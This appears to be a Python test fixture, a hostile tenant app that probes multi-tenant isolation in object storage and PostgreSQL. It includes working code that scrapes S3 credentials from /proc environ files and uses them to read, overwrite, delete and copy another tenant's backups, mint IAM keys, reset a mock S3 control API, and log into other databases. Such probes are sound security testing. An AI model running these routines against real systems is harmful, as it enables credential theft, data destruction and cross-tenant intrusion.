"""A hostile tenant app for tests/test_isolation_storage.py: its workflows attack object storage
and PostgreSQL from inside tenant A, as agent code would (standard library and what the
tenant image holds; nothing from the test suite).

``storage_attack(targets)``: gathers every S3 key the process can find (its environment, every
/proc/PID/environ it can read) plus the keys the test hands it (A's own key, the strongest A
could get), then with each one, and with none, tries to read, overwrite and delete tenant B's
backup objects and lease, to copy B's objects into its own prefix, to make itself or B a new
IAM key, and to use moto's control API. It also writes its own prefix, to show its key works.
Returns ``{"sources": [...], "key_ids": [...], "results": {label: {attempt: HTTP status}}}``;
secrets never leave the workflow.

``pg_attack(targets)``: tries to connect to other databases with its own role and password,
and as B's role with its own password. Returns ``{attempt: "connected" | error class}``.

``note(text)``: an ordinary workflow, to show the tenant still works and replicates.
"""

from __future__ import annotations

import datetime
import glob
import hashlib
import hmac
import http.client
import os
import urllib.parse
from typing import Any

from agent_runtime import step, workflow

KEY_NAMES = (
    ("LITESTREAM_ACCESS_KEY_ID", "LITESTREAM_SECRET_ACCESS_KEY"),
    ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"),
    ("FLEET_S3_ACCESS_KEY_ID", "FLEET_S3_SECRET_ACCESS_KEY"),
)


def _environments() -> list[tuple[str, dict[str, str]]]:
    found = [("os.environ", dict(os.environ))]
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as f:
                raw = f.read()
        except OSError:
            continue
        env = dict(
            item.decode(errors="replace").partition("=")[::2]
            for item in raw.split(b"\0")
            if b"=" in item
        )
        found.append((path, env))
    return found


def _found_keys() -> tuple[list[str], list[tuple[str, str]]]:
    sources, keys = [], []
    for where, env in _environments():
        for id_name, secret_name in KEY_NAMES:
            if env.get(id_name) and env.get(secret_name):
                sources.append(f"{where}:{id_name}")
                pair = (env[id_name], env[secret_name])
                if pair not in keys:
                    keys.append(pair)
    return sources, keys


def _sign(
    key: tuple[str, str] | None,
    method: str,
    host: str,
    path: str,
    query: str,
    headers: dict[str, str],
    body: bytes,
    service: str,
) -> dict[str, str]:
    """AWS Signature Version 4 (or nothing for an anonymous request)."""
    out = {"host": host, **{k.lower(): v for k, v in headers.items()}}
    if key is None:
        return out
    now = datetime.datetime.now(datetime.UTC)
    stamp, day = now.strftime("%Y%m%dT%H%M%SZ"), now.strftime("%Y%m%d")
    out["x-amz-date"] = stamp
    out["x-amz-content-sha256"] = hashlib.sha256(body).hexdigest()
    names = sorted(out)
    canonical = "\n".join(
        [
            method,
            urllib.parse.quote(path, safe="/-_.~"),
            "&".join(sorted(query.split("&"))) if query else "",
            "".join(f"{n}:{out[n].strip()}\n" for n in names),
            ";".join(names),
            out["x-amz-content-sha256"],
        ]
    )
    scope = f"{day}/us-east-1/{service}/aws4_request"
    to_sign = (
        f"AWS4-HMAC-SHA256\n{stamp}\n{scope}\n{hashlib.sha256(canonical.encode()).hexdigest()}"
    )
    k = ("AWS4" + key[1]).encode()
    for part in (day, "us-east-1", service, "aws4_request"):
        k = hmac.new(k, part.encode(), hashlib.sha256).digest()
    signature = hmac.new(k, to_sign.encode(), hashlib.sha256).hexdigest()
    out["authorization"] = (
        f"AWS4-HMAC-SHA256 Credential={key[0]}/{scope}, SignedHeaders={';'.join(names)}, "
        f"Signature={signature}"
    )
    return out


def _call(
    endpoint: str,
    key: tuple[str, str] | None,
    method: str,
    path: str,
    *,
    query: str = "",
    body: bytes = b"",
    headers: dict[str, str] | None = None,
    service: str = "s3",
) -> int:
    url = urllib.parse.urlsplit(endpoint)
    signed = _sign(key, method, url.netloc, path, query, headers or {}, body, service)
    conn = http.client.HTTPConnection(url.hostname or "", url.port or 80, timeout=10)
    try:
        conn.request(method, path + (f"?{query}" if query else ""), body=body, headers=signed)
        response = conn.getresponse()
        response.read()
        return response.status
    finally:
        conn.close()


def _attempts(t: dict[str, Any], key: tuple[str, str] | None) -> dict[str, int]:
    ep, b = t["endpoint"], t["bucket"]
    victim, lease, mine = t["victim_object"], t["victim_lease"], t["own_prefix"]
    iam_form = f"Action=CreateAccessKey&UserName={t['victim_user']}&Version=2010-05-08".encode()
    form = {"content-type": "application/x-www-form-urlencoded"}
    r = {
        "get_victim_object": _call(ep, key, "GET", f"/{b}/{victim}"),
        "head_victim_object": _call(ep, key, "HEAD", f"/{b}/{victim}"),
        "overwrite_victim_object": _call(ep, key, "PUT", f"/{b}/{victim}", body=b"x"),
        "delete_victim_object": _call(ep, key, "DELETE", f"/{b}/{victim}"),
        "get_victim_lease": _call(ep, key, "GET", f"/{b}/{lease}"),
        "overwrite_victim_lease": _call(ep, key, "PUT", f"/{b}/{lease}", body=b"{}"),
        "delete_victim_lease": _call(ep, key, "DELETE", f"/{b}/{lease}"),
        "write_fleet_manifest": _call(ep, key, "PUT", f"/{b}/manifests/x.json", body=b"{}"),
        "copy_victim_into_own_prefix": _call(
            ep,
            key,
            "PUT",
            f"/{b}/{mine}stolen",
            headers={"x-amz-copy-source": f"/{b}/{victim}"},
        ),
        "read_the_copy": _call(ep, key, "GET", f"/{b}/{mine}stolen"),
        "create_victim_iam_key": _call(
            ep, key, "POST", "/", body=iam_form, headers=form, service="iam"
        ),
        "list_iam_users": _call(
            ep,
            key,
            "POST",
            "/",
            body=b"Action=ListUsers&Version=2010-05-08",
            headers=form,
            service="iam",
        ),
        "moto_api_dump": _call(ep, None, "GET", "/moto-api/data.json"),
        "moto_api_reset": _call(ep, None, "POST", "/moto-api/reset"),
        "list_victim_prefix": _call(
            ep,
            key,
            "GET",
            f"/{b}",
            query="list-type=2&prefix="
            + urllib.parse.quote(victim.rsplit("/", 2)[0] + "/", safe=""),
        ),
        "write_own_prefix": _call(ep, key, "PUT", f"/{b}/{mine}probe", body=b"mine"),
        "read_own_prefix": _call(ep, key, "GET", f"/{b}/{mine}probe"),
    }
    r["delete_own_prefix"] = _call(ep, key, "DELETE", f"/{b}/{mine}probe")
    return r


@step
def probe_storage(targets: dict[str, Any]) -> dict[str, Any]:
    sources, keys = _found_keys()
    given = [tuple(k) for k in targets.get("keys", [])]
    candidates: list[tuple[str, tuple[str, str] | None]] = [("anonymous", None)]
    candidates += [(f"found-{i}", k) for i, k in enumerate(keys)]
    candidates += [(f"given-{i}", (str(k[0]), str(k[1]))) for i, k in enumerate(given)]
    # A forged key id with a wrong secret: every key id in the store is worth a try.
    for i, (key_id, _) in enumerate([*keys, *given]):
        candidates.append((f"forged-{i}", (str(key_id), "not-the-secret")))
    results = {label: _attempts(targets, key) for label, key in candidates}
    key_ids = [key_id for key_id, _ in keys]  # ids only: the secrets stay here
    return {"sources": sources, "key_ids": key_ids, "results": results}


@workflow
async def storage_attack(targets: dict[str, Any]) -> dict[str, Any]:
    result: dict[str, Any] = await probe_storage(targets)
    return result


@step
def probe_postgres(targets: dict[str, Any]) -> dict[str, str]:
    import psycopg

    password = os.environ.get("PGPASSWORD", "")
    host, port = targets["host"], int(targets["port"])
    out = {}
    for label, user, dbname in (
        ("own_role_own_database", targets["own_role"], targets["own_role"]),
        ("own_role_victim_database", targets["own_role"], targets["victim_database"]),
        ("own_role_admin_database", targets["own_role"], targets["admin_database"]),
        ("own_role_postgres_database", targets["own_role"], "postgres"),
        ("victim_role_own_password", targets["victim_database"], targets["victim_database"]),
    ):
        try:
            with psycopg.connect(
                host=host, port=port, user=user, dbname=dbname, password=password,
                connect_timeout=5,
            ):  # fmt: skip
                out[label] = "connected"
        except psycopg.Error as exc:
            out[label] = type(exc).__name__ + ": " + str(exc).strip().splitlines()[-1][:200]
    return out


@workflow
async def pg_attack(targets: dict[str, Any]) -> dict[str, str]:
    result: dict[str, str] = await probe_postgres(targets)
    return result


@workflow
async def note(text: str) -> dict[str, str]:
    return {"text": text}
